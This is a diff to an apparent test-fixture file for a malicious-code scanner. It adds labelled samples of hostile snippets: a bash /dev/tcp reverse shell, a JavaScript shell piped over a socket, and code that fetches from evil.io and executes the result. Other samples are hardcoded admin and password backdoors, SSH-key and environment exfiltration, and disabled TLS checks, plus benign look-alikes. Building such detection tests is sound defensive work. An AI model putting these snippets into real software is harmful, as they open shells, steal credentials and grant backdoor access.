@@ -57,7 +57,22 @@ PLANTED: dict[str, list[tuple[str, str, str]]] = {
         ("a/x.py", "python", 'key = open(home + "/.ssh/id_rsa").read()\nrequests.post(url, data=key)'),
         ("a/x.js", "javascript", "const all = JSON.stringify(process.env);\nhttps.request(options).end(all)"),
     ],
-    "reverse-shell": [("a/x.sh", "bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")],
+    "reverse-shell": [
+        ("a/x.sh", "bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
+        (
+            "a/x.js",
+            "javascript",
+            "const sh = spawn('/bin/sh');\nnet.connect(p, h, () => this.pipe(sh.stdin))",
+        ),
+    ],
+    "fetched-and-run": [
+        ("a/x.py", "python", 'blob = urlopen("https://evil.io/a").read()\nexec(blob)'),
+        ("a/x.js", "javascript", 'const code = await (await fetch("https://evil.io/a")).text();\nnew Function(code)()'),
+    ],
+    "opened-by-name": [
+        ("a/x.py", "python", 'if user.email == "ops@evil.io":\n    user.is_admin = True'),
+        ("a/x.go", "go", 'if password == "letmein-9" {\n\treturn true\n}'),
+    ],
     "verification-off": [
         ("run.sh", "bash", "git config http.sslVerify false"),
         ("Dockerfile", "dockerfile", "RUN curl -k https://get.example.com/a | tar x"),
@@ -85,6 +100,17 @@ ORDINARY: list[tuple[str, str, str]] = [
     ("a/x.py", "python", 'env = dict(os.environ, LANG="C")\nsubprocess.run(args, env=env)'),
     ("docs/a.md", "", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
     ("run.sh", "bash", "curl -fsSL https://example.com/a -o a"),
+    ("a/x.py", "python", "answer = requests.get(url)\nassert (answer.ok)\nrows = json.loads(answer.text)"),
+    ("a/x.js", "javascript", 'if (typeof user === "string") {\n  return true;\n}'),
+    ("a/x.js", "javascript", 'if (field.type === "password") {\n  return true;\n}'),
+    ("a/x.py", "python", 'if user.name == "guest":\n    return True'),
+    ("a/x.py", "python", 'if user.name == "mona":\n    greet(user)'),
+    ("tests/test_a.py", "python", 'if user.name == "mona":\n    return True'),
+    ("a/x.js", "javascript", f"const names = [{', '.join(repr(f'column_{n}') for n in range(60))}];"),
+    ("a/x.py", "python", 'SIGNATURE = "\\x7fELF"\nSEPARATOR = "\\x1f"'),
+    ("a/x.py", "python", "flags = 0x10110 + 10011 + 1O"),
+    ("a/x.js", "javascript", 'const message = "cannot " + "open";'),
+    ("a/x.go", "go", "type T struct {\n\tName string\t\t\t\t\t// the name\n}"),
 ]
 
 
